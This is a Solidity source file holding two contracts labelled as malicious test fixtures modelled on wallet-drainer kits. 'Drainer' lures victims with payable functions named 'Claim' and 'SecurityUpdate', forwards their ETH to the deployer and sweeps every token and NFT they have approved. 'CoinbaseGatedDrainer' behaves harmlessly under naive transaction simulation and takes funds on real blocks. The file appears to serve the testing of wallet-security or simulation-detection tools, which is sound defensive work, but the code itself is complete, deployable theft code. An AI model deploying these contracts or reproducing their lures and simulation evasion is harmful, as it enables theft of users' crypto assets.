// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

interface IDrainERC20 {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}

interface IDrainERC721 {
    function isApprovedForAll(address owner, address operator) external view returns (bool);
    function ownerOf(uint256 tokenId) external view returns (address);
    function transferFrom(address from, address to, uint256 tokenId) external;
}

/// @notice MALICIOUS fixture modelled on wallet-drainer kits. The payable "Claim()" and
/// "SecurityUpdate()" lures forward msg.value to the owner, then sweep every configured ERC-20
/// the caller has approved to this contract and every configured NFT id the caller approved for all.
contract Drainer {
    address public immutable owner;
    address[] public tokens;
    address[] public collections;
    mapping(address => uint256[]) private _ids;

    event Drained(address indexed victim, address indexed asset, uint256 amountOrId);

    constructor() {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "Drainer: not owner");
        _;
    }

    function addToken(address token) external onlyOwner {
        tokens.push(token);
    }

    function addCollection(address collection, uint256[] calldata ids) external onlyOwner {
        collections.push(collection);
        for (uint256 i = 0; i < ids.length; i++) {
            _ids[collection].push(ids[i]);
        }
    }

    function tokenCount() external view returns (uint256) {
        return tokens.length;
    }

    function collectionCount() external view returns (uint256) {
        return collections.length;
    }

    function idsOf(address collection) external view returns (uint256[] memory) {
        return _ids[collection];
    }

    function Claim() external payable {
        _drain(msg.sender);
    }

    function SecurityUpdate() external payable {
        _drain(msg.sender);
    }

    function _drain(address victim) private {
        if (msg.value > 0) {
            (bool ok,) = owner.call{value: msg.value}("");
            require(ok, "Drainer: forward failed");
        }
        for (uint256 i = 0; i < tokens.length; i++) {
            address token = tokens[i];
            uint256 allowed = IDrainERC20(token).allowance(victim, address(this));
            if (allowed == 0) continue;
            uint256 bal = IDrainERC20(token).balanceOf(victim);
            uint256 amount = allowed < bal ? allowed : bal;
            if (amount == 0) continue;
            (bool ok, bytes memory ret) =
                token.call(abi.encodeWithSelector(0x23b872dd, victim, owner, amount));
            if (ok && (ret.length == 0 || abi.decode(ret, (bool)))) emit Drained(victim, token, amount);
        }
        for (uint256 i = 0; i < collections.length; i++) {
            IDrainERC721 nft = IDrainERC721(collections[i]);
            if (!nft.isApprovedForAll(victim, address(this))) continue;
            uint256[] storage ids = _ids[address(nft)];
            for (uint256 j = 0; j < ids.length; j++) {
                try nft.ownerOf(ids[j]) returns (address holder) {
                    if (holder == victim) {
                        nft.transferFrom(victim, owner, ids[j]);
                        emit Drained(victim, address(nft), ids[j]);
                    }
                } catch {}
            }
        }
    }

    receive() external payable {
        (bool ok,) = owner.call{value: msg.value}("");
        require(ok, "Drainer: forward failed");
    }
}

/// @notice MALICIOUS simulation-evasion fixture: when block.coinbase is the zero address (what a
/// naive eth_call simulation often uses) Claim() refunds the caller; on a real block the value
/// goes to the owner.
contract CoinbaseGatedDrainer {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function Claim() external payable {
        address to = block.coinbase == address(0) ? msg.sender : owner;
        (bool ok,) = to.call{value: msg.value}("");
        require(ok, "CoinbaseGatedDrainer: transfer failed");
    }
}
